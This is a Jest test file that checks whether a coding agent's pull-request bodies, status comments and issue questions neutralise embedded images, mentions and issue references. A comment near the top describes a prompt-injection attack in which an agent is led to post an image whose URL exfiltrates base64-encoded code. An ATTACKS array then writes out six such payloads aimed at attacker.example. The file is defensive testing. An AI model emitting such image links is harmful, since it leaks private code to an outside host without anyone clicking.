import { describe, expect, test } from "@jest/globals";
import { renderPrBody } from "../../src/delivery/publish/pr-body.ts";
import { explainAgentOutcome } from "../../src/delivery/status/explain-agent-outcome.ts";
import { renderAgentText } from "../../src/github/agent-text.ts";
import { scriptedPauses } from "../helpers/scripted-pauses.ts";
import { useToolWorkspaces } from "../agent/tools/support/tool-workspace.ts";
import { publishRequest } from "../delivery/publish/publish-fixtures.ts";

/*
 * Attack: injected text steers the agent to write, in its summary or a question, an image
 * whose URL carries private code (`![x](https://attacker.example/?q=<base64 of a file>)`).
 * GitHub's image proxy fetches every image in a body it renders, so posting it sends the code
 * out without anyone clicking. Raw HTML (`<img src=…>`) does the same; `@someone` pings a
 * stranger, `#12` marks another issue as mentioned.
 */

const LEAK = "https://attacker.example/c?q=c2VjcmV0LWNvZGU";
const ATTACKS: [string, string][] = [
  ["a markdown image", `Done. ![status](${LEAK})`],
  ["a reference image", `Done. ![status][s]\n\n[s]: ${LEAK}`],
  ["an <img> tag", `Done. <img src="${LEAK}">`],
  ["an <img> tag with an unquoted URL", `Done. <img src=${LEAK}>`],
  ["an HTML block", `<div>\n<img src="${LEAK}">\n</div>`],
  ["a <picture> source", `<picture><source srcset="${LEAK}"></picture>`],
];

/** Whether GitHub would render something that fetches LEAK: an image in markdown or any tag, outside code. */
function fetchesLeak(markdown: string): boolean {
  const outsideCode = markdown.replace(/(`+)[\s\S]*?\1/g, "");
  return /!\[[^\]]*\]\(https:\/\/attacker|!\[[^\]]*\]\[|<(?:img|picture|source|div)\b/i.test(outsideCode);
}

describe("an image in the agent's summary is not rendered in the pull request body", () => {
  test.each(ATTACKS)("%s", (_name, summary) => {
    const body = renderPrBody({ request: publishRequest(1, { summary }), index: 1, numbers: [7] });
    expect(fetchesLeak(body)).toBe(false);
    expect(body).toContain("attacker.example");
  });
});

describe("an image in the agent's summary is not rendered in the status comment", () => {
  test.each(ATTACKS)("%s", (_name, summary) => {
    const text = explainAgentOutcome({ outcome: "no-changes", summary, spend: { steps: 1, minutes: 0, inputTokens: 0, cachedInputTokens: 0, outputTokens: 0, reasoningTokens: 0, costUsd: 0 } });
    expect(fetchesLeak(text)).toBe(false);
  });
});

describe("the agent's question on the issue", () => {
  const workspace = useToolWorkspaces();

  test("is posted without its image", async () => {
    const pauses = scriptedPauses({ answers: [{ answered: false, reason: "no answer" }] });
    const { call } = await workspace({ pauses });
    await call("ask", { question: `Which one? ![a](${LEAK}) @octocat` });
    expect(pauses.questions).toHaveLength(1);
    expect(fetchesLeak(pauses.questions[0] ?? "")).toBe(false);
    expect(pauses.questions[0]).toContain("`@octocat`");
  });
});

describe("references and mentions in agent text are defused", () => {
  test.each([
    ["a mention", "Thanks @octocat for the report", "Thanks `@octocat` for the report"],
    ["a closing keyword", "Fixes #1", "Fixes `#1`"],
    ["a bare issue reference", "Related to #12.", "Related to `#12`."],
    ["another repository's issue", "See octo/app#3.", "See `octo/app#3`."],
    ["a GH- reference", "Like GH-4.", "Like `GH-4`."],
  ])("%s", (_name, text, expected) => {
    expect(renderAgentText(text)).toBe(expected);
  });

  test("code stays as written", () => {
    expect(renderAgentText("Run `npm test -- #1 @x`.\n\n```sh\necho #1 @x\n```")).toBe("Run `npm test -- #1 @x`.\n\n```sh\necho #1 @x\n```");
  });
});
